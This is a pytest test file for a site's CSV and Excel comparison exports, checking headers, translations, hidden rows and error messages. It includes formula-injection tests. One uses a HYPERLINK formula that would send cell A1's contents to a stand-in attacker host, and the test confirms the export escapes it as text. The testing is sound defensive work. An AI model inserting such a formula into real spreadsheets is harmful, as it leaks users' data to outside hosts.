"""The comparison as CSV and as an Excel workbook: the rows of the table, read back."""

import pytest

from tests.factories import add_programme

from .compare_readers import read_csv, read_table, read_xlsx

pytestmark = pytest.mark.django_db


def ids_of(pages, *keys):
    return ",".join(str(pages[key].pk) for key in keys)


def test_the_csv_holds_the_rows_of_the_table(client, compared_pages):
    ids = ids_of(compared_pages, "danish", "swedish", "method")
    response = client.get(f"/en/compare/export/csv/?ids={ids}")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="bro-comparison-20')
    assert response.content.startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8
    rows = read_csv(response)

    assert rows[0] == [
        "Aspect",
        "Safe at home",
        "Östergötland together against crime",
        "Reinforcement teams",
    ]
    _header, table = read_table(client.get(f"/en/compare/?ids={ids}").content.decode())
    assert [row[0] for row in rows[1:]] == list(table)
    by_label = {row[0]: row[1:] for row in rows[1:]}
    assert by_label["Country and areas"] == [
        "Denmark\nCentral Denmark Region",
        "Sweden\nÖstergötland County",
        "Sweden",
    ]
    assert by_label["Period and status"] == [
        "2018–2022\nEnded",
        "2022–2027\nActive",
        "not applicable",
    ]
    assert by_label["Summary"][1] == (
        "Länets gemensamma program för brottsförebyggande samverkan. (in Swedish)"
    )
    assert by_label["Last reviewed"] == ["2026-11-22", "—", "—"]


def test_the_workbook_holds_the_same_rows_with_links(client, compared_pages):
    ids = ids_of(compared_pages, "danish", "method")
    csv_rows = read_csv(client.get(f"/en/compare/export/csv/?ids={ids}"))
    response = client.get(f"/en/compare/export/xlsx/?ids={ids}")
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert 'filename="bro-comparison-20' in response["Content-Disposition"]
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet, rows = read_xlsx(response)
    assert rows == csv_rows
    assert sheet.title == "Comparison"
    assert sheet["B1"].hyperlink.target == f"http://testserver{compared_pages['danish'].url}"
    assert sheet.freeze_panes == "B2"


def test_exports_follow_the_readers_language_and_hidden_rows(client, compared_pages):
    ids = ids_of(compared_pages, "swedish", "method")
    rows = read_csv(client.get(f"/da/compare/export/csv/?ids={ids}&hide_empty=1"))
    labels = [row[0] for row in rows]
    assert labels[0] == "Aspekt"
    assert "Land og områder" in labels
    assert "Senest gennemgået" not in labels  # empty for both, and hidden as on the page
    assert rows[0][1:] == ["Östergötland sammen mod kriminalitet", "Forstærkningsteams"]

    response = client.get(f"/sv/compare/export/xlsx/?ids={ids}")
    assert 'filename="bro-jamforelse-20' in response["Content-Disposition"]
    sheet, rows = read_xlsx(response)
    assert sheet.title == "Jämförelse"
    assert rows[0][0] == "Aspekt"
    assert "Senast granskad" in [row[0] for row in rows]


def test_a_text_that_looks_like_a_formula_stays_text(client, compared_pages):
    danish = compared_pages["danish"]
    danish.summary_en = '=HYPERLINK("http://example.com","click")'
    danish.save_revision().publish()
    sheet, rows = read_xlsx(client.get(f"/en/compare/export/xlsx/?ids={danish.pk}"))
    summary = next(row for row in sheet.iter_rows() if row[0].value == "Summary")[1]
    assert summary.data_type == "s"
    assert summary.value == '=HYPERLINK("http://example.com","click")'


@pytest.mark.parametrize(
    ("query", "status", "message"),
    [
        ("", 400, "Choose the programmes or methods to compare before exporting."),
        ("ids=1,x", 400, "“x” is not the number of a programme or method."),
        ("ids=1,2,3,4,5", 400, "You can compare at most 4 items"),
        ("ids=987654", 404, "no published programme or method with the number 987654"),
    ],
)
def test_bad_exports_are_refused_with_a_message(client, home_page, query, status, message):
    response = client.get(f"/en/compare/export/csv/?{query}")
    assert response.status_code == status
    assert response["Content-Type"].startswith("text/html")
    assert message in response.content.decode()


def test_an_unknown_format_is_not_found(client, compared_pages):
    response = client.get(f"/en/compare/export/pdf/?ids={compared_pages['danish'].pk}")
    assert response.status_code == 404


def test_a_cell_that_a_spreadsheet_would_run_as_a_formula_is_kept_as_text(client, sections):
    title = '=HYPERLINK("http://attacker.example/?"&A1,"Klik")'
    page = add_programme(sections["programmes"]["DK"], title_da=title, summary_da="@SUM(1+1)")
    rows = read_csv(client.get(f"/da/compare/export/csv/?ids={page.pk}"))
    assert rows[0][1] == "'" + title
    assert ["'@SUM(1+1)"] in [row[1:] for row in rows]
